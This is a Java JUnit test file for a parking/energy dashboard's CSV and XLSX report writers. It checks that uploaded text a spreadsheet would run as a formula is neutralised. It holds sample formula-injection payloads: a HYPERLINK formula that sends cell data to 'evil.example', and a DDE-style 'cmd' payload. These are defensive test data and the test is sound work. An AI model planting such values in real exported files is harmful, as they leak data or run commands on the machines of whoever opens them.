package io.parkpulse.dashboard.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.parkpulse.efficiency.evaluation.DataState;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.YearMonth;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** Text an enterprise uploaded that a spreadsheet would run as a formula arrives as text in the CSV and the workbook. */
class FormulaCellsTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"熟料\")";

    static MonthlyReport report() {
        ReportRow row = new ReportRow("ent-a", "@SUM(1+1)*cmd|' /C calc'!A0", "C3011", 10, 1.5, 1000, 5, 100, 0.015,
                HYPERLINK + " 107.3", 10, 1, 80, "A", -3.5, 2.0, -1.75, "improving", 2, 0.01, 0.02, 1, 50,
                DataState.complete(), List.of(new DataState.Reason("product_no_figure", Map.of("product", "+note", "unit", "kgce/t"),
                        "+note: no kgce/t figure")), 12.5, 0.125);
        return new MonthlyReport("p", "园区", ZoneId.of("Asia/Shanghai"), YearMonth.of(2026, 9), "-v1", "equivalent", "当量值",
                "", 20, Instant.parse("2026-10-15T02:00:00Z"), "operator", List.of(row), null, "not_deducted");
    }

    @Test
    void csvTextCellsThatWouldRunAsFormulasAreQuotedAndNumbersStayNumbers() throws Exception {
        byte[] body = CsvReportWriter.write(report(), ReportLanguage.EN);
        String text = new String(body, 3, body.length - 3, StandardCharsets.UTF_8);
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build().parse(new StringReader(text))) {
            CSVRecord r = parser.getRecords().get(0);
            assertThat(r.get("Energy per product (kgce/unit)")).isEqualTo("'" + HYPERLINK + " 107.3");
            assertThat(r.get("Enterprise")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
            assertThat(r.get("Notes")).startsWith("'+note");
            assertThat(r.get("Policy version")).isEqualTo("'-v1");
            assertThat(r.get("Energy growth year on year (%)")).as("a number the product wrote").isEqualTo("-3.5");
            assertThat(r.get("Energy-output elasticity")).isEqualTo("-1.75");
            assertThat(r.get("Enterprise ID")).isEqualTo("ent-a");
        }
    }

    @Test
    void cellsStartingWithEveryFormulaCharacterAreNeutralisedAndOthersLeftAlone() {
        for (String s : List.of("=1", "+1", "-x", "@x", "\t=1", "\r=1")) {
            assertThat(CsvCells.text(s)).isEqualTo("'" + s);
        }
        for (String s : List.of("熟料", "a=1", " ordinary", "'quoted")) {
            assertThat(CsvCells.text(s)).isEqualTo(s);
        }
        assertThat(CsvCells.text(null)).isNull();
        assertThat(CsvCells.cell(-3.5)).isEqualTo("-3.5");
        assertThat(CsvCells.cell(1.0E7)).isEqualTo("10000000");
        assertThat(CsvCells.cell(-2)).isEqualTo(-2);
    }

    @Test
    void theWorkbookWritesTextAsStringCellsNeverFormulas() throws Exception {
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(XlsxReportWriter.write(report(), ReportLanguage.EN)))) {
            Row header = book.getSheetAt(0).getRow(0);
            Row row = book.getSheetAt(0).getRow(1);
            for (Cell title : header) {
                Cell cell = row.getCell(title.getColumnIndex());
                if (cell != null) {
                    assertThat(cell.getCellType()).as(title.getStringCellValue()).isIn(CellType.STRING, CellType.NUMERIC);
                }
            }
            assertThat(row.getCell(11).getStringCellValue()).isEqualTo(HYPERLINK + " 107.3");
            assertThat(row.getCell(16).getNumericCellValue()).isEqualTo(-3.5);
            book.getSheetAt(1).forEach(r -> r.forEach(c -> assertThat(c.getCellType()).isEqualTo(CellType.STRING)));
        }
    }
}
